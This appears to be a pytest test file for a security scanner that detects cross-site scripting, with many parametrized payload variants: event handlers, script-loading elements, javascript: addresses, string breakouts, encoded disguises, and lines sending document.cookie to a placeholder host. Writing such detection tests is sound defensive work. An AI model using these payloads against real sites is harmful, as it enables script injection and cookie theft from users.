"""Script in values bound for a page: the families of the cheat sheets, each in many shapes."""

from __future__ import annotations

from itertools import product
from urllib.parse import quote

import pytest

from orchestrator_security.contract import ScanContext
from orchestrator_security.sinks.html import HtmlScanner

HTML = ScanContext(sink="html")


def rules(value: str) -> set[str]:
    scanner = HtmlScanner()
    return {hit.rule_id for hit in scanner.scan(value, HTML)} if scanner.prefilter(value, HTML) else set()


TAGS = ["img", "svg", "x", "lamp-shade", "body", "details", "b", "IMG"]
GAPS = [" ", "/", "\n", "\t", "\x0c", ' a="b>c" ', " src=x ", ' src="x"', "/a/"]
EVENTS = ["onerror", "onload", "onmouseover", "ontoggle", "OnFocus", "onpointerrawupdate", "onlamp"]


@pytest.mark.parametrize(("tag", "gap", "event"), list(product(TAGS, GAPS, EVENTS)))
def test_event_handlers_in_a_tag(tag: str, gap: str, event: str) -> None:
    assert "html.event-handler" in rules(f"a <{tag}{gap}{event}=f(4)>")
    assert rules(f"<{tag}{gap}{event} = 'f(4)'")


ELEMENTS = [
    "script", "iframe src=//a.b", "object data=a", "embed src=a", "base href=//a.b", "meta http-equiv=refresh", "link rel=stylesheet",
    "style", "svg", "math", "applet", "frameset", "SCRIPT/x", "script\nx", "form action=//a.b", "button formaction=//a.b", "svg:script",
]  # fmt: skip


@pytest.mark.parametrize("element", ELEMENTS)
def test_elements_that_run_or_load(element: str) -> None:
    assert rules(f"lamp <{element}>")
    assert rules(f'"><{element}>')


@pytest.mark.parametrize("scheme", ["javascript:", "JaVaScRiPt:", "java\tscript:",
    "java&#10;script:", "javascript&colon;", "&#106;avascript:",
    "vbscript:", "java%0ascript:", "\x01javascript:"])  # fmt: skip
@pytest.mark.parametrize(
    "place",
    [
        "{}f(4)",
        "<a href={}f(4)>",
        '<a href="{}f(4)">',
        "<iframe src='{}f(4)'>",
        "[lamp]({}f(4))",
        "<form action={}f(4)>",
    ],
)
def test_addresses_that_run_script(scheme: str, place: str) -> None:
    assert rules(place.format(scheme))


@pytest.mark.parametrize(
    "value",
    [
        "data:text/html,<b>x</b>",
        "data:text/html;base64,PGI+eDwvYj4=",
        "data:image/svg+xml,x",
        "<a href='data:;base64,eA=='>",
        "view-source:http://a.b",
    ],
)
def test_addresses_that_carry_a_document(value: str) -> None:
    assert "html.data-address" in rules(value)


LEAVING = ['"', "'", "`", 'lamp"', "lamp' x=y", 'lamp" autofocus', '"/']


@pytest.mark.parametrize(
    ("leaving", "handler"),
    list(product(LEAVING, ["onclick=f(4)", "onfocus='f(4)'", 'onmouseover="f(4)', "onblur=f`4`"])),
)
def test_a_handler_behind_a_closed_attribute(leaving: str, handler: str) -> None:
    assert rules(f"{leaving} {handler}")


@pytest.mark.parametrize(
    "call",
    [
        "alert(4)",
        "confirm`4`",
        "prompt(document.domain)",
        "eval('a'+'b')",
        "alert?.(4)",
        "window['alert'](4)",
        "setTimeout('f()')",
    ],
)
@pytest.mark.parametrize(
    "leaving", ["';{}//", '";{}//', "'-{}-'", '"+{}+"', "\\';{}//", "${{{}}}", "'}};{};{{'", "`;{};`", "*/{}/*", "{}"]
)
def test_a_call_behind_a_closed_string_of_script(leaving: str, call: str) -> None:
    assert rules(leaving.format(call))


@pytest.mark.parametrize(
    "value",
    [
        '<p style="width:expression(f(4))">',
        "<p style=\"background:url('javascript:f(4)')\">",
        '<p style="-moz-binding:url(//a.b)">',
        '<p style="behavior: url(a.htc)">',
        "@import '//a.b/c.css'",
        "<p srcdoc='x'>",
        "<a xlink:href=x>",
        "<!--#exec cmd=ls-->",
        "<?php f(); ?>",
        "<![CDATA[x]]>",
        "<!ENTITY a SYSTEM 'b'>",
        "document.cookie",
        "location='//a.b/?'+document.cookie",
        "top['al'+'ert'](4)",
        "[].constructor.constructor('f')()",
        "{{a.constructor('f')()}}",
        "new Image().src='//a.b/'+document.cookie",
        "[][(![]+[])[+[]]+(![]+[])[+!+[]]]",
        "onerror=alert;throw 4",
        "<img src='//a.b/?",
        "&#x000003C;",
        "<p v-html=x>",
        "<p @click=f(4)>",
        "<p style='x:\\65xpression(f(4))'>",
        "<p style='x:expr/*a*/ession(f(4))'>",
        "[4].map(alert)",
        "';f(4);//",
        "<!DOCTYPE a SYSTEM 'b'>",
    ],
)
def test_styles_declarations_and_expressions(value: str) -> None:
    assert rules(value)


PLAIN = "<script>f(4)</script>"


@pytest.mark.parametrize(
    "disguised",
    [
        quote(PLAIN),
        quote(quote(PLAIN)),
        "".join(f"%u{ord(c):04x}" for c in PLAIN),
        "".join(f"\\u{ord(c):04x}" for c in PLAIN),
        "".join(f"\\x{ord(c):02x}" for c in PLAIN),
        "".join(f"&#{ord(c)};" for c in PLAIN),
        "".join(f"&#x{ord(c):07x}" for c in PLAIN),
        "".join(chr(ord(c) + 0xFEE0) for c in PLAIN),
        PLAIN.replace("<", "\xbc").replace(">", "\xbe"),
        PLAIN.replace("<", "+ADw-").replace(">", "+AD4-"),
        PLAIN.replace("<", "<\x00"),
        PLAIN.swapcase(),
    ],
)
def test_disguises_are_undone(disguised: str) -> None:
    assert rules(disguised)


def test_a_hit_says_where_what_and_which_weakness() -> None:
    value = "lamps of 1920 <img src=x onerror=f(4)>"
    (hit,) = HtmlScanner().scan(value, HTML)
    assert value[hit.start : hit.end] == "onerror="
    assert hit.category == "xss" and hit.rule_id == "html.event-handler" and hit.severity == "high"
    assert hit.cwe == "CWE-79" and hit.owasp_llm == "LLM05" and not hit.kind
    assert "1920" not in hit.message and hit.message.startswith("cross-site scripting: ")


def test_a_hit_in_a_decoded_form_spans_the_value() -> None:
    value = quote(PLAIN)
    hits = HtmlScanner().scan(value, HTML)
    assert {(hit.start, hit.end) for hit in hits} == {(0, len(value))}
